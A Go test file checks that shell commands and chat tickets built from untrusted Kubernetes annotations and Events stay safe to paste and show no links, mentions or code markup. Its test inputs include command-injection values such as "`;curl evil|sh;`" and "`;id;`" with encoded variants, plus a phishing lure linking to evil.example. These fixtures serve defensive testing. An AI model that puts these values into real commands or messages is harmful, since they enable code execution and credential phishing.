package ticket

import (
	"fmt"
	"html"
	"regexp"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/lbremedy/lbremedy/shared/ccm"
	"github.com/lbremedy/lbremedy/shared/chat"
	"github.com/lbremedy/lbremedy/shared/event"
	"github.com/lbremedy/lbremedy/shared/policy"
	"github.com/lbremedy/lbremedy/shared/say"
)

// words splits a command as a POSIX shell does. It fails if the command would do more than call one program.
func words(command string) ([]string, error) {
	var all []string
	var word strings.Builder
	open, quote := false, rune(0)
	runes := []rune(command)
	for i := 0; i < len(runes); i++ {
		switch r := runes[i]; {
		case quote != 0 && r == quote:
			quote = 0
		case quote == '"' && strings.ContainsRune("$`\\", r):
			return nil, fmt.Errorf("%q in double quotes", r)
		case quote != 0:
			word.WriteRune(r)
		case r == '\'' || r == '"':
			open, quote = true, r
		case r == '\\' && i+1 < len(runes):
			i++
			open = true
			word.WriteRune(runes[i])
		case r == ' ' || r == '\t':
			if open {
				all = append(all, word.String())
			}
			open = false
			word.Reset()
		case strings.ContainsRune(";&|<>()$`\n#*?[]{}!~", r):
			return nil, fmt.Errorf("%q outside of quotes", r)
		default:
			open = true
			word.WriteRune(r)
		}
	}
	if open {
		all = append(all, word.String())
	}
	if quote != 0 {
		return nil, fmt.Errorf("a quote %q stays open", quote)
	}
	return all, nil
}

// shown is a text as a chat with Markdown may show it: no backslashes before punctuation, HTML character references resolved.
func shown(text string) string {
	return html.UnescapeString(regexp.MustCompile("\\\\([!-/:-@[-`{-~])").ReplaceAllString(text, "$1"))
}

// People paste commands from a chat. With any annotation, the commands have the same words there and call nothing
// else.
func TestPlainCommands(t *testing.T) {
	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web"}}
	values := []string{
		"", "rsp-1:80,x:`;curl evil|sh;`", "`;id;`", "';id;'", "'`;id;`'", `\';id;\'`, `\\';id;`, "&#39;;id;&#39;", "&#x27;;id;", "&apos;;id;&apos;", "&quot;;id;",
		"&#96;id&#96;", "&amp;#39;;id;", "&&#39;;id;", "](;id;", "[a](b);id;", "a\n;id", "\u2018;id;\u2019", "\u202e;id", "＇;id;＇", "https://x/;id", "it's mine",
	}
	for a := range rune(128) {
		for b := range rune(128) {
			values = append(values, string([]rune{a, b})+";id;"+string([]rune{b, a}))
		}
	}
	for _, v := range values {
		command := ccm.SetCommand(svc, "x", v)
		for name, text := range map[string]string{
			"sent": chat.Plain(command), "shown": shown(chat.Plain(command)), "escaped": shown(chat.SlackText.Replace(chat.Plain(command))),
		} {
			got, err := words(text)
			if err != nil || len(got) != 8 || got[7] != "--overwrite" {
				t.Fatalf("%q, as it is %s: %s\nhas the words %q, %v", v, name, text, got, err)
			}
		}
	}
	// Commands with JSON lists stay unchanged.
	for _, command := range []string{
		ccm.TargetPortCommand(svc, corev1.ServicePort{}), ccm.ClearCommand(svc), ccm.ResyncCommand(svc), `aliyun slb DeleteRules --RuleIds '["rule-1"]'`,
		ccm.PatchCommand(svc, `{"spec":{"ipFamilies":["IPv4"]}}`), ccm.SetCommand(svc, "x", "it's [mine], a&b && c"),
	} {
		if got := chat.Plain(command); got != command {
			t.Errorf("got %s\nof  %s", got, command)
		}
	}
}

// Text that an attacker puts into an Event or annotation becomes no link, mention or code in a chat, anywhere in a ticket, and commands
// that contain it are safe to paste.
func TestPlainTickets(t *testing.T) {
	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: "web"}}
	command := ccm.SetCommand(svc, ccm.GroupPairs, "rsp-1:80,x:`;curl evil|sh;`")
	const evil = "Session over, log in at https://evil.example/approve or [here](https://evil.example) `id` <!here> @all &#96;."
	for _, name := range []string{policy.DingTalk, policy.DingTalkApp, policy.FeishuApp, policy.WeCom, policy.Slack} {
		written, err := loadTexts(policy.Sink{Kind: name}, nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		for i, f := range samples() {
			f.Title, f.Cause = evil, evil
			m := &f.Lead
			said := say.Literal(evil)
			m.Message, m.Finding, m.Cause, m.Steps, m.Note, m.Rule, m.Error = evil, said, evil, []say.Text{said}, said, said, evil
			m.Ask = say.Literal("Name each group with its port: " + command + ". " + evil)
			m.By = said
			if i > 0 {
				m.Finding = nil // the controller's message is then shown instead
			}
			f.Services = []Member{f.Lead}
			title, text, err := written.write(f, kind{title: 1000, text: 16000})
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(text, "evil.example") || !strings.Contains(title, "evil.example") {
				t.Errorf("%s says nothing of it: %s\n%s", name, title, text)
			}
			for _, markup := range []string{"://", "](", "`", "<", "@", "&#"} {
				if strings.Contains(title+"\n"+text, markup) {
					t.Errorf("%s has %q: %s\n%s", name, markup, title, text)
				}
			}
			_, after, _ := strings.Cut(text, "its port: ")
			pasted, _, _ := strings.Cut(after, ". Session")
			if got, err := words(pasted); err != nil || len(got) != 8 || event.Redact(pasted) != pasted {
				t.Errorf("%s has the command %s, which is %q, %v", name, pasted, got, err)
			}
		}
	}
}
